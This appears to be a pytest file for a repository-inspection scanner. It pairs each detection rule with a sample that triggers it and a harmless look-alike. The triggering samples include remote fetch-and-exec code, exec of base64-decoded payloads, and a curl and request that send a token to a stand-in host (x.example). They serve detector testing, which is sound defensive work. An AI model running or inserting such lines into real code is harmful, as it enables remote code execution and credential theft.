"""Each rule of the inspection: a tiny file that provokes it, and one much like it that must not."""

import base64
import os
import struct
from pathlib import Path

import pytest

from tournament_sync.inspection.files import MAX_LINE_BYTES, MAX_SOURCE_BYTES
from tournament_sync.inspection.gather import inspect_here
from tournament_sync.inspection.report import Finding, Severity
from tournament_sync.inspection.rules import RULES
from tournament_sync.inspection.tree import MAX_READ_BYTES

MANIFEST = "ab" * 32
# Put together here, so that nobody's scanner takes this file for a leak.
RANDOM = "q7Zt2LmXc9VbN4sKdR8yHw1JfP6gTe3UaQ5x"
HF_TOKEN = "hf" + "_" + RANDOM[:34]
OPAQUE = base64.b64encode(bytes(range(256)) * 2).decode()
ELF = b"\x7fELF" + bytes(60)
ZIP = b"PK\x03\x04" + bytes(60)
SAFETENSORS = (
    struct.pack("<Q", 60) + b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'.ljust(60) + bytes(4)
)
KEY = f"-----BEGIN {'PRIVATE'} KEY-----\nMIIE\n"
POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n"

# rule: (path, content that provokes it, content that does not)
PYTHON = {
    "python-unreadable": ("x = 1\x00\n", "x = 1\n"),
    "python-unparsable": ("def f(:\n", "def f(): ...\n"),
    "python-2": ("print 'hello'\n", "print('hello')\n"),
    "python-obfuscated": (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64\nprint(base64.b64decode('cHJpbnQoMSk='))\n",
    ),
    "python-remote-exec": (
        "import requests\nexec(requests.get('http://x.example/c').text)\n",
        "import requests\nprint(requests.get('http://x.example/c').text)\n",
    ),
    "python-exec": ("def run(code):\n    exec(code, {})\n", "model.eval()\nimport re\nre.compile(pattern)\n"),
    "python-opaque-literal": (f"DATA = '{OPAQUE}'\n", f"DATA = '{'many words of prose ' * 40}'\n"),
    "python-marshal": ("import marshal\nmarshal.loads(data)\n", "import json\njson.loads(data)\n"),
    "python-native": ("import ctypes\nctypes.CDLL('./lib.so')\n", "import ctypes\nctypes.c_int()\n"),
    "python-builtins": ("import builtins\nvars(builtins)[name](x)\n", "vars(args)[name]\n"),
    "python-odd-script": (
        "import runpy\nrunpy.run_path('a.txt')\n",
        "import runpy\nrunpy.run_path('a.py')\n",
    ),
    "python-libc": ("import ctypes\nctypes.CDLL(None)\n", "import ctypes\nctypes.c_int()\n"),
    "python-dynamic-import": (
        "import importlib\nimportlib.import_module(name)\n",
        "import importlib\nimportlib.import_module('json')\n",
    ),
    "python-pickle": ("import torch\ntorch.load(p)\n", "import torch\ntorch.load(p, weights_only=True)\n"),
    "python-trust-remote-code": (
        "A.from_pretrained(p, trust_remote_code=True)\n",
        "A.from_pretrained(p, trust_remote_code=args.trust)\n",
    ),
    "python-runtime-install": (
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'x'])\n",
        "raise ImportError('pip install x')\n",
    ),
    "python-download": ("A.from_pretrained('org/model')\n", "A.from_pretrained(args.model)\n"),
    "python-network": ("import requests\nrequests.post(url)\n", "requests = []\nrequests.append(url)\n"),
    "python-upload": ("model.push_to_hub('org/name')\n", "model.push('org/name')\n"),
    "python-token": (
        "import os\nt = os.environ['HF_TOKEN']\n",
        "import os\nt = os.environ['TOKENIZERS_PARALLELISM']\n",
    ),
    "python-shell": (
        "import subprocess\nsubprocess.run(command, shell=True)\n",
        "import subprocess\nsubprocess.run(command, shell=False)\n",
    ),
    "python-hook": ("import builtins\nbuiltins.print = quiet\n", "class A: ...\nA.print = quiet\n"),
    "python-noise": (
        "run(f'python add_random_noise.py {base} {out}')\n",
        "run(f'python add_margin.py {base} {out}')\n",
    ),
    "python-absolute-write": (
        "import os\nos.makedirs('/dataset/images')\n",
        "import os\nos.makedirs('/app/checkpoints/x')\nos.makedirs('here')\nopen('/cache/x', 'rb')\n",
    ),
    "python-redis": ("import redis\n", "import rediscovery\n"),
}
FILES: dict[str, tuple[str, bytes, bytes]] = {
    "file-binary": ("a/tool", ELF, b"plain text"),
    "file-weights": ("m.safetensors", SAFETENSORS, b""),
    "file-archive": ("a.dat", ZIP, b"plain text"),
    "file-opaque": ("a.dat", b"\x00\x01\x02", b"plain text"),
    "file-lfs-pointer": ("a.txt", POINTER, b"version 1\n"),
    "file-notebook": ("a.ipynb", b"{}", b""),
    "file-hidden": (".secret/a.txt", b"x", b""),
    "file-auto-run": ("lib/sitecustomize.py", b"x = 1\n", b""),
    "file-test-hook": ("tests/conftest.py", b"x = 1\n", b""),
    "file-too-large": ("a.py", b"#" * (MAX_SOURCE_BYTES + 1), b"#" * 100),
    "file-unread": ("a.txt", b"x" * (MAX_READ_BYTES + 1), b"x" * 100),
    "source-bidi": ("a.py", "x = 1  # \u202e txt\n".encode(), "x = 1  # ا\n".encode()),
    "source-invisible": ("a.py", "x\u200b = 1\n".encode(), "\ufeffx = '👩\u200d💻'\n".encode()),
    "source-long-line": ("a.sh", b"# " + b"x" * MAX_LINE_BYTES, b"# x"),
    "secret-private-key": ("key.txt", KEY.encode(), b"-----BEGIN CERTIFICATE-----"),
    "secret-token": ("a.sh", f"T={HF_TOKEN}".encode(), b"T=hf_your_token_here_xxxxxxxxxxxxxxxxxxxx"),
    "secret-assignment": (
        "a.yaml",
        f'api_key: "{RANDOM}"'.encode(),
        b'tokenizer_class: "LlamaTokenizerFast32000x"\napi_key: "${API_KEY_OF_THE_SERVICE}"',
    ),
    "licence-copyleft": (
        "lib/COPYING",
        b"GNU GENERAL PUBLIC LICENSE Version 3",
        b"Apache License Version 2.0",
    ),
    "licence-restricted": ("lib/LICENSE", b"A Non-Commercial License", b"Apache License Version 2.0"),
    "licence-unknown": ("lib/LICENSE", b"all of it is mine", b"Apache License Version 2.0"),
    "table-of-models": (
        "t.json",
        b'{"a/b": 1, "c/d": 2, "e/f": 3}',
        b'{"text/plain": 1, "image/png": 2, "a.py/x": 3}',
    ),
}
CASES = FILES | {rule: ("a.py", bad.encode(), good.encode()) for rule, (bad, good) in PYTHON.items()}
# Not provoked by one file: in the tests of run, sizes, licences and capabilities, and below.
ELSEWHERE = {
    "could-not-inspect",
    "too-many-findings",
    "too-many-facts",
    "file-executable",
    "file-special",
    "licence-missing",
    "licence-changed",
    "notice-missing",
    "notice-changed",
    "contract-no-dockerfile",
    "contract-no-epoch",
    "contract-epoch-mismatch",
    "contract-channel-mismatch",
    "contract-no-parser",
}
OURS = (
    "python-",
    "file-",
    "source-",
    "secret-",
    "licence-",
    "notice-",
    "contract-",
    "table-",
    "too-",
    "could-",
)


def findings_of(tree: Path) -> list[Finding]:
    return list(inspect_here(tree, manifest_sha256=MANIFEST).findings)


def rules_of(tree: Path, path: str, content: bytes) -> set[str]:
    file = tree / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(content)
    return {found.rule for found in findings_of(tree)}


@pytest.mark.parametrize("rule", CASES)
def test_finds_what_breaks_the_rule(rule: str, tmp_path: Path) -> None:
    path, bad, _ = CASES[rule]
    assert rule in rules_of(tmp_path, path, bad)


@pytest.mark.parametrize("rule", [rule for rule, (_, _, good) in CASES.items() if good])
def test_passes_what_only_looks_like_it(rule: str, tmp_path: Path) -> None:
    path, _, good = CASES[rule]
    assert rule not in rules_of(tmp_path, path, good)


def test_every_rule_of_the_inspection_has_a_case() -> None:
    assert {rule for rule in RULES if rule.startswith(OURS)} == set(CASES) | ELSEWHERE


def test_finding_names_file_line_and_why(tmp_path: Path) -> None:
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "a.py").write_text("import os\n\n\nexec(os.environ['CODE'])\n")
    (found,) = [each for each in findings_of(tmp_path) if each.rule == "python-exec"]
    assert (found.file, found.line, found.found) == ("scripts/a.py", 4, "exec(os.environ['CODE'])")
    assert found.severity is Severity.HIGH and found.why == RULES["python-exec"].why


def test_finds_link_without_following_it(tmp_path: Path) -> None:
    (tmp_path / "link.py").symlink_to("/etc/passwd")
    (tmp_path / "folder").symlink_to("/etc")
    os.mkfifo(tmp_path / "pipe.py")
    found = [each.file for each in findings_of(tmp_path) if each.rule == "file-special"]
    assert sorted(found) == ["folder", "link.py", "pipe.py"]


def test_finds_executable_that_is_no_script(tmp_path: Path) -> None:
    for name, content in (("data.txt", "x"), ("run.sh", "true"), ("run", "#!/usr/bin/awk -f\n")):
        (tmp_path / name).write_text(content)
        (tmp_path / name).chmod(0o755)
    assert [each.file for each in findings_of(tmp_path) if each.rule == "file-executable"] == ["data.txt"]


def test_severities_keep_ordinary_training_code_below_critical(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(
        "import torch, pickle, subprocess, os\n"
        "model = AutoModel.from_pretrained(args.model, trust_remote_code=True)\n"
        "torch.load('x.pt'); pickle.load(f)\n"
        "subprocess.run(f'torchrun train.py {args.x}', shell=True)\n"
        "exec(reward, namespace)\n"
        "os.environ.get('WANDB_API_KEY')\n"
    )
    worst = [each for each in findings_of(tmp_path) if each.file == "a.py"]
    assert {each.rule for each in worst if each.severity is Severity.HIGH} == {"python-exec"}
    assert not [each for each in worst if each.severity is Severity.CRITICAL]


def test_no_secret_is_repeated_in_any_finding(tmp_path: Path) -> None:
    (tmp_path / "a.py").write_text(
        f"import os, requests\nos.system('curl -H \"Authorization: Bearer {HF_TOKEN}\" http://x.example/y')\n"
        f"requests.get('http://x.example/?t={HF_TOKEN}')\n"
    )
    report = inspect_here(tmp_path, manifest_sha256=MANIFEST)
    assert "secret-token" in {each.rule for each in report.findings}
    assert HF_TOKEN not in repr(report)
